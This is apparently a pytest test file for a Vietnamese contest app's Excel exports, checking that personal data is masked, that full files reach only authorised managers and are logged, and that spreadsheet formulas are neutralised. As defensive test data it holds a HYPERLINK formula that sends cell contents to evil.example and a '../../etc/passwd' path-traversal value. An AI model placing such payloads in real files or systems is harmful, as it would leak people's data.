"""Excel exports: masked by default, full only for managers who ask, formulas
neutralised, Vietnamese headers, the background job for large rounds."""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
from auditlog.models import LogEntry
from django.urls import reverse
from openpyxl import load_workbook

from danvan.contests import exports, services
from danvan.contests.models import Contest
from danvan.contests.tests.factories import make_participant, make_world, right_answers
from danvan.core import excel
from danvan.core.masking import mask_cccd, mask_phone
from danvan.core.models import Job, JobStatus, Role
from danvan.core.tests.factories import make_staff

CCCD = "093201001234"
PHONE = "0912345678"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào đây")'


def _submit(rnd: Any, participant: Any, right: int = 4) -> Any:
    attempt = services.start_attempt(rnd, participant)
    correct = right_answers(attempt)
    answers = {str(q): correct[str(q)] for q, _c in attempt.paper[:right]}
    return services.submit_attempt(attempt.token, answers, 123).attempt


@pytest.fixture
def world(db: Any) -> Any:
    w = make_world(question_count=4)
    w.alice = make_participant(
        w.contest, w.hamlet, full_name="Trần Thị Ánh", phone=PHONE, cccd=CCCD
    )
    w.evil = make_participant(w.contest, w.commune, full_name=EVIL, phone="0987654321")
    _submit(w.round, w.alice, right=4)
    _submit(w.round, w.evil, right=1)
    # Scope: a manager above (board admin of the province), a viewer in scope.
    w.manager = make_staff("bdv.tinh", Role.BOARD_ADMIN, area=w.province)
    w.viewer = make_staff("xem.tinh", Role.VIEWER, area=w.province)
    return w


def _sheet(data: bytes) -> Any:
    wb = load_workbook(io.BytesIO(data))
    return wb.worksheets[0]


def _rows(data: bytes) -> list[list[Any]]:
    return [list(r) for r in _sheet(data).iter_rows(values_only=True)]


def _by_name(data: bytes, name: str) -> dict[str, Any]:
    rows = _rows(data)
    header = rows[0]
    for row in rows[1:]:
        if row[1] == name:
            return dict(zip(header, row, strict=True))
    raise AssertionError(f"{name} not in the file")


# --- The workbooks -----------------------------------------------------------------


def test_results_are_masked_by_default(world: Any) -> None:
    data = exports.results_workbook(world.round, reveal_personal=False)
    row = _by_name(data, "Trần Thị Ánh")
    assert row["Số điện thoại"] == mask_phone(PHONE) == "0912***678"
    assert row["Số CCCD"] == mask_cccd(CCCD)
    assert PHONE.encode() not in data and CCCD.encode() not in data


def test_results_revealed_on_request(world: Any) -> None:
    data = exports.results_workbook(world.round, reveal_personal=True)
    row = _by_name(data, "Trần Thị Ánh")
    assert (row["Số điện thoại"], row["Số CCCD"]) == (PHONE, CCCD)


def test_results_columns_and_layout(world: Any) -> None:
    data = exports.results_workbook(world.round, reveal_personal=False)
    ws = _sheet(data)
    assert [c.value for c in ws[1]] == [h for h, _w in exports.RESULT_HEADERS]
    assert ws[1][0].value == "Hạng" and ws[1][1].value == "Họ và tên"
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width == 28
    row = _by_name(data, "Trần Thị Ánh")
    assert row["Hạng"] == 1 and row["Điểm"] == 4
    assert row["Xã, phường"] == "Xã Phụng Hiệp" and row["Ấp, khu vực"] == "Ấp Phụng Thạnh"
    assert row["Dự đoán"] == 123
    assert len(row["Thời gian làm bài (phút:giây)"]) == 5  # mm:ss
    submitted = row["Nộp bài lúc"]
    assert submitted[2] == "/" and submitted[5] == "/" and len(submitted) == 16
    notes = load_workbook(io.BytesIO(data))["Ghi chú"]
    assert any("che một phần" in (c.value or "") for c in notes["A"])


def test_formulas_stay_text(world: Any) -> None:
    data = exports.results_workbook(world.round, reveal_personal=False)
    ws = _sheet(data)
    cells = [row[1] for row in ws.iter_rows(min_row=2)]
    evil = next(c for c in cells if c.value == EVIL)
    assert evil.data_type == "s"
    assert evil.quotePrefix
    assert b"<f>" not in _zip_sheet(data)


def _zip_sheet(data: bytes) -> bytes:
    import zipfile

    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_neutralises_every_formula_start(start: str) -> None:
    from openpyxl import Workbook

    ws = Workbook(write_only=True).create_sheet()
    cell = excel.safe_cell(ws, f"{start}SUM(A1:A9)")
    assert cell.data_type == "s" and cell.quotePrefix
    plain = excel.safe_cell(ws, "Nguyễn Văn A")
    assert plain.data_type == "s" and not plain.quotePrefix
    assert excel.safe_cell(ws, 5) == 5


def test_participants_workbook(world: Any) -> None:
    masked = exports.participants_workbook(world.contest, reveal_personal=False)
    row = _by_name(masked, "Trần Thị Ánh")
    assert row["Ngày sinh"] == "**/**/1990"
    assert row["Số điện thoại"] == "0912***678" and row["Số CCCD"] == mask_cccd(CCCD)
    assert row["Giới tính"] == "Nữ" and row["Số lượt thi đã nộp"] == 1
    assert row["Điểm cao nhất"] == 4
    full = _by_name(exports.participants_workbook(world.contest, True), "Trần Thị Ánh")
    assert full["Ngày sinh"] == "17/05/1990"
    assert (full["Số điện thoại"], full["Số CCCD"]) == (PHONE, CCCD)
    assert _sheet(masked).cell(1, 1).value == "STT"
    evil = next(r for r in _sheet(masked).iter_rows(min_row=2) if r[1].value == EVIL)
    assert evil[1].data_type == "s"


def test_filenames() -> None:
    contest = Contest(title='Tìm hiểu "Đề án 08" / 2025')
    ascii_name, utf8_name = exports._names(f"Kết quả {contest.title} đợt 1", True)
    assert ascii_name == "ket-qua-tim-hieu-de-an-08-2025-dot-1-day-du.xlsx"
    assert utf8_name == "Kết quả Tìm hiểu Đề án 08 2025 đợt 1 (đầy đủ).xlsx"
    header = excel.content_disposition(ascii_name, utf8_name)
    assert header.startswith(f"attachment; filename=\"{ascii_name}\"; filename*=UTF-8''")
    assert unquote(header.split("UTF-8''", 1)[1]) == utf8_name


# --- The views: who may see what --------------------------------------------------


def test_view_masks_by_default_even_for_managers(world: Any, client: Any) -> None:
    client.force_login(world.manager)
    response = client.get(reverse("contests_stats:export_results", args=[world.round.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == excel.XLSX
    assert response["Cache-Control"] == "private, no-store"
    disposition = response["Content-Disposition"]
    assert (
        'filename="ket-qua-tim-hieu-de-an-08-' in disposition and "filename*=UTF-8''" in disposition
    )
    row = _by_name(response.content, "Trần Thị Ánh")
    assert row["Số điện thoại"] == "0912***678"


def test_manager_with_flag_gets_the_full_file_and_it_is_logged(world: Any, client: Any) -> None:
    client.force_login(world.manager)
    before = LogEntry.objects.filter(action=LogEntry.Action.ACCESS).count()
    url = reverse("contests_stats:export_results", args=[world.round.pk])
    response = client.get(url + "?day_du=1")
    row = _by_name(response.content, "Trần Thị Ánh")
    assert (row["Số điện thoại"], row["Số CCCD"]) == (PHONE, CCCD)
    assert "day-du" in response["Content-Disposition"]
    entry = LogEntry.objects.filter(action=LogEntry.Action.ACCESS).order_by("-pk").first()
    assert LogEntry.objects.filter(action=LogEntry.Action.ACCESS).count() == before + 1
    assert entry.object_pk == str(world.contest.pk) and entry.actor == world.manager


def test_viewer_with_flag_still_gets_masked_data(world: Any, client: Any) -> None:
    client.force_login(world.viewer)
    for name, arg in (
        ("export_results", world.round.pk),
        ("export_participants", world.contest.pk),
    ):
        response = client.get(reverse(f"contests_stats:{name}", args=[arg]) + "?day_du=1")
        assert response.status_code == 200
        assert PHONE.encode() not in response.content
        row = _by_name(response.content, "Trần Thị Ánh")
        assert row["Số điện thoại"] == "0912***678"
        assert "day-du" not in response["Content-Disposition"]


def test_the_page_offers_the_full_file_only_to_managers(world: Any, client: Any) -> None:
    url = reverse("contests_stats:round_stats", args=[world.round.pk])
    client.force_login(world.viewer)
    assert "day_du=1" not in client.get(url).content.decode()
    client.force_login(world.manager)
    assert "day_du=1" in client.get(url).content.decode()


# --- Large rounds: a background job -----------------------------------------------


def test_large_export_runs_as_a_job(
    world: Any,
    client: Any,
    settings: Any,
    tmp_path: Path,
    monkeypatch: Any,
    django_capture_on_commit_callbacks: Any,
) -> None:
    settings.MEDIA_ROOT = tmp_path
    monkeypatch.setattr(exports, "SYNC_LIMIT", 2)
    client.force_login(world.manager)
    url = reverse("contests_stats:export_results", args=[world.round.pk]) + "?day_du=1"

    page = client.get(url)  # a GET only asks for confirmation
    assert page.status_code == 200 and "Tạo tệp" in page.content.decode()
    assert not Job.objects.exists()

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"day_du": "1"})
    job = Job.objects.get()
    assert response.status_code == 302 and response["Location"] == job.get_absolute_url()
    assert (job.kind, job.params) == ("export_results", {"round": world.round.pk, "reveal": True})
    assert job.status == JobStatus.DONE, job.errors
    assert job.result["file"] == f"exports/{job.pk}.xlsx"
    assert (tmp_path / "exports" / f"{job.pk}.xlsx").is_file()
    assert job.result["rows"] == 2

    download = client.get(reverse("contests_stats:job_download", args=[job.pk]))
    assert download.status_code == 200
    data = b"".join(download.streaming_content)
    assert _by_name(data, "Trần Thị Ánh")["Số CCCD"] == CCCD
    assert "filename*=UTF-8''" in download["Content-Disposition"]

    # The stats page lists the file for its owner.
    page = client.get(reverse("contests_stats:round_stats", args=[world.round.pk]))
    assert reverse("contests_stats:job_download", args=[job.pk]) in page.content.decode()

    # Nobody else downloads it, not even a manager of the same contest.
    client.force_login(make_staff("bdv.khac", Role.BOARD_ADMIN, area=world.province))
    assert client.get(reverse("contests_stats:job_download", args=[job.pk])).status_code == 404


def test_job_rechecks_the_right_to_reveal(
    world: Any, settings: Any, tmp_path: Path, django_capture_on_commit_callbacks: Any
) -> None:
    """A viewer who forges params={"reveal": True} still gets a masked file."""
    from danvan.core.jobs import start_job

    settings.MEDIA_ROOT = tmp_path
    with django_capture_on_commit_callbacks(execute=True):
        job = start_job(
            world.viewer, "export_results", "x", params={"round": world.round.pk, "reveal": True}
        )
    job.refresh_from_db()
    assert job.status == JobStatus.DONE
    data = (tmp_path / job.result["file"]).read_bytes()
    assert _by_name(data, "Trần Thị Ánh")["Số điện thoại"] == "0912***678"


def test_job_out_of_scope_fails(
    world: Any, settings: Any, tmp_path: Path, django_capture_on_commit_callbacks: Any
) -> None:
    from danvan.core.jobs import start_job

    settings.MEDIA_ROOT = tmp_path
    stranger = make_staff("la", Role.BOARD_ADMIN, area=world.other_commune)
    with django_capture_on_commit_callbacks(execute=True):
        job = start_job(stranger, "export_results", "x", params={"round": world.round.pk})
    job.refresh_from_db()
    assert job.status == JobStatus.FAILED
    assert not (tmp_path / "exports").exists()


def test_download_of_an_unfinished_or_foreign_job_is_404(world: Any, client: Any) -> None:
    job = Job.objects.create(kind="export_results", title="x", created_by=world.manager)
    client.force_login(world.manager)
    assert client.get(reverse("contests_stats:job_download", args=[job.pk])).status_code == 404
    other = Job.objects.create(
        kind="import_hamlets",
        title="y",
        created_by=world.manager,
        status=JobStatus.DONE,
        result={"file": "../../etc/passwd"},
    )
    assert client.get(reverse("contests_stats:job_download", args=[other.pk])).status_code == 404


def test_small_formatters() -> None:
    assert exports.mm_ss(None) == ""
    assert exports.mm_ss(65_999) == "01:05"
    assert exports.mm_ss(3_600_000) == "60:00"
    assert exports._birth(date(2001, 2, 3), False) == "**/**/2001"
    assert exports._birth(None, True) == ""
